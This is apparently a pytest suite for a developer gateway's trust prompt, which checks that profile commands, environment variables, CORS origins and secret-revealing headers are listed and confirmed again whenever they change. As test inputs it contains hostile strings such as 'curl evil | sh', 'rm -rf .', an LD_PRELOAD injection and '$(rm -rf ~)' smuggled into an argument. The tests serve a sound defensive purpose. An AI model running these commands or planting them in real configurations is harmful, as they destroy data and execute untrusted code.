import os
import stat
import sys
from pathlib import Path

import pytest

from devgate.profile.loading import load
from devgate.profile.trust import TrustRequest, needs_trust, remember, state_folder
from tests.profile.conftest import Project

PROFILE = """
env: {LEVEL: debug, TOKEN: "${TOKEN}"}
services:
  api:
    command: cargo run
    cwd: api
    port: 1
    env: {A: 1, B: }
    ready: {exec: [check, "a b"]}
    stop: {command: end}
  theirs: {url: "${URL:-http://127.0.0.1:9}"}
  stand-in: {stub: true, port: 2}
routes: [{path: /a, service: api}]
"""


@pytest.fixture
def state(tmp_path: Path) -> Path:
    return tmp_path / "state" / "devgate"


def request(project: Project, state: Path, text: str) -> TrustRequest | None:
    return needs_trust(project.load(text), state)


def asked(project: Project, state: Path, text: str) -> TrustRequest:
    found = request(project, state, text)
    assert found is not None
    return found


def test_everything_that_it_would_do_is_listed(project: Project, state: Path) -> None:
    project.environ = {"TOKEN": "secret", "URL": "http://localhost:10"}
    found = asked(project, state, PROFILE)
    cwd = project.folder / "api"
    assert found.lines == (
        f"api runs cargo run  (in {cwd})",
        f'api probes with ["check", "a b"]  (in {cwd})',
        f"api stops with end  (in {cwd})",
        "api with LEVEL = debug",
        "api with TOKEN from env TOKEN",
        "api with A = 1",
        "api with B unset",
        "theirs is at http://localhost:10  (from env URL)",
    )
    assert found.path == project.folder / "devgate.yaml"


TELLING = {
    "routes[0].response_headers.set.X-A": "{path: /a, service: a, response_headers: {set: {X-A: '${AWS_KEY}'}}}",
    "routes[0].request_headers.add.X-A[0]": "{path: /a, service: a, request_headers: {add: {X-A: ['${AWS_KEY}']}}}",
    "routes[0].fallback.answer.body.key": "{path: /a, service: a, fallback: {answer: {body: {key: 'is ${AWS_KEY}'}}}}",
}


@pytest.mark.parametrize(("path", "route"), TELLING.items(), ids=TELLING)
def test_to_tell_what_the_environment_holds_is_a_deed(project: Project, state: Path, path: str, route: str) -> None:
    """A profile that runs nothing and answers a page with a variable of its choice."""
    project.environ = {"AWS_KEY": "secret"}
    found = asked(project, state, f"services: {{a: {{stub: true, port: 1}}}}\nroutes: [{route}]\n")
    assert found.lines == (f"{path} tells env AWS_KEY",)


@pytest.mark.parametrize(
    ("gateway", "line"),
    [
        ("cors: {origins: ['https://evil.example']}", "pages of https://evil.example may read answers"),
        ("cors: {origins: ['http://192.168.1.2:8000']}", "pages of http://192.168.1.2:8000 may read answers"),
        ("cors: {origins: ['http://*.evil.example']}", "pages of http://*.evil.example may read answers"),
        ("cors: {origins: ['*'], credentials: false}", "pages of every site may read answers"),
        ("hosts: [evil.example]", "the gateway may be called evil.example"),
    ],
)
def test_to_let_pages_of_elsewhere_in_is_a_deed(project: Project, state: Path, gateway: str, line: str) -> None:
    """A page of that name reaches every service behind the gateway, those included that ran before devgate."""
    found = asked(project, state, f"gateway: {{{gateway}}}\nservices: {{a: {{stub: true, port: 1}}}}\n")
    assert found.lines == (line,)


@pytest.mark.parametrize(
    "gateway",
    [
        "cors: {origins: ['http://localhost:1420', 'tauri://localhost', 'http://tauri.localhost', 'http://127.0.0.1:5173']}",
        "hosts: [app.localhost]",
    ],
)
def test_pages_of_this_machine_are_nobody_else_s(project: Project, state: Path, gateway: str) -> None:
    assert request(project, state, f"gateway: {{{gateway}}}\nservices: {{a: {{stub: true, port: 1}}}}\n") is None


def test_a_stand_in_tells_it_too(project: Project, state: Path) -> None:
    project.environ = {"AWS_KEY": "secret"}
    stub = "{responses: [{path: /x, headers: {X-A: '${AWS_KEY}'}}]}"
    found = asked(project, state, f"services: {{a: {{stub: {stub}, port: 1}}}}\n")
    assert found.lines == ("services.a.stub.responses[0].headers.X-A tells env AWS_KEY",)


def test_a_default_is_written_in_the_file_and_no_secret(project: Project, state: Path) -> None:
    text = "services: {a: {stub: true, port: 1}}\nroutes: [{path: '${PREFIX:-/a}', service: a}]\n"
    assert request(project, state, text) is None


def test_what_is_agreed_to_is_not_asked_again(project: Project, state: Path) -> None:
    project.environ = {"TOKEN": "x"}
    remember(asked(project, state, PROFILE), state)
    assert request(project, state, PROFILE) is None


@pytest.mark.parametrize(
    ("old", "new"),
    [
        ("cargo run", "curl evil | sh"),
        ("cwd: api", "cwd: /tmp"),
        ("LEVEL: debug", "LD_PRELOAD: ./evil.so"),
        ("A: 1", "A: 2"),
        ("B: ", "B: x"),
        ('"a b"', "other"),
        ("command: end", "command: rm -rf ."),
        ("127.0.0.1:9", "127.0.0.1:10"),
        ("stub: true", "command: hidden"),
        ("port: 1", "port: 1, env_file: x.env".replace(", ", "\n    ")),
    ],
)
def test_every_change_of_a_deed_asks_again(project: Project, state: Path, old: str, new: str) -> None:
    project.environ = {"TOKEN": "x"}
    remember(asked(project, state, PROFILE), state)
    assert PROFILE.count(old) >= 1
    asked(project, state, PROFILE.replace(old, new))


@pytest.mark.parametrize(
    ("old", "new"), [("path: /a", "path: /b"), ("port: 2", "port: 3"), ("routes:", "# words\nroutes:")]
)
def test_a_change_of_anything_else_does_not(project: Project, state: Path, old: str, new: str) -> None:
    project.environ = {"TOKEN": "x"}
    remember(asked(project, state, PROFILE), state)
    assert request(project, state, PROFILE.replace(old, new)) is None


def test_another_value_in_the_user_s_own_environment_does_not(project: Project, state: Path) -> None:
    project.environ = {"TOKEN": "x"}
    remember(asked(project, state, PROFILE), state)
    project.environ = {"TOKEN": "y"}
    assert request(project, state, PROFILE) is None


def test_but_another_target_does(project: Project, state: Path) -> None:
    project.environ = {"TOKEN": "x"}
    remember(asked(project, state, PROFILE), state)
    project.environ = {"TOKEN": "x", "URL": "http://10.0.0.1"}
    asked(project, state, PROFILE)


def test_the_same_commands_elsewhere_are_another_matter(project: Project, state: Path, tmp_path: Path) -> None:
    text = "services: {api: {command: ./run}}\n"
    remember(asked(project, state, text), state)
    asked(Project(tmp_path / "cloned"), state, text)


def test_what_does_nothing_needs_no_trust(project: Project, state: Path) -> None:
    assert request(project, state, "services: {a: {stub: true, port: 1}}\nroutes: [{path: /a, service: a}]\n") is None


def test_shipped_profiles_are_trusted(project: Project, state: Path) -> None:
    assert needs_trust(load("fechatter", cwd=project.folder, environ={}), state) is None


def test_one_s_own_profile_that_extends_a_shipped_one_is_not(project: Project, state: Path) -> None:
    assert (
        "fechatter-server runs evil"
        in asked(project, state, "extends: fechatter/base\nservices: {fechatter-server: {command: evil}}\n").lines[0]
    )


def test_nothing_that_is_written_can_be_hidden(project: Project, state: Path) -> None:
    """Masking here would let a profile hide its command behind the word `password`."""
    found = asked(project, state, "services: {api: {command: 'x --password=$(rm -rf ~)', env: {API_KEY: ./evil}}}\n")
    assert "rm -rf" in found.lines[0]
    assert "./evil" in found.lines[1]


@pytest.mark.skipif(sys.platform == "win32", reason="no modes there")
def test_notes_are_private(project: Project, state: Path) -> None:
    found = asked(project, state, "services: {api: {command: x}}\n")
    remember(found, state)
    note = state / "trust" / found.digest
    assert note.read_text() == f"{found.path}\n"
    assert stat.S_IMODE(note.stat().st_mode) == 0o600
    assert stat.S_IMODE(state.stat().st_mode) == stat.S_IMODE((state / "trust").stat().st_mode) == 0o700
    remember(found, state)


@pytest.mark.skipif(not hasattr(os, "getuid"), reason="no owners there")
def test_somebody_else_s_note_is_no_agreement(project: Project, state: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    remember(asked(project, state, "services: {api: {command: x}}\n"), state)
    mine = os.getuid()
    monkeypatch.setattr(os, "getuid", lambda: mine + 1)
    asked(project, state, "services: {api: {command: x}}\n")


def test_the_folder_is_the_user_s(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(tmp_path))
    if sys.platform.startswith("linux"):
        assert state_folder() == tmp_path / "devgate"
